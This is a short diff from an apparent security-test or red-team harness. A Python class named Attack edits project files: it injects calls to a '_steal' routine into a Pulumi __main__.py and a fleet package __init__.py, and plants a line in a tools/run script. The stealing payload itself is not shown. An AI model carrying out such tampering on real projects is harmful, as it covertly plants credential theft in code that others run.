@@ -38,7 +38,7 @@ class Attack:
             "__main__.py",
             lambda text: text.replace("import pulumi\n", f"import pulumi\n{self._steal('program')}", 1),
         )
-        self._edit("fleet/__init__.py", lambda text: f"{text}\n{self._steal('command')}")
+        self._edit("ccc_numbers/fleet/__init__.py", lambda text: f"{text}\n{self._steal('command')}")
         self._edit(
             "tools/run", lambda text: text.replace("\nroot=", f"\necho x > {self.folder}/tools\nroot=", 1)
         )
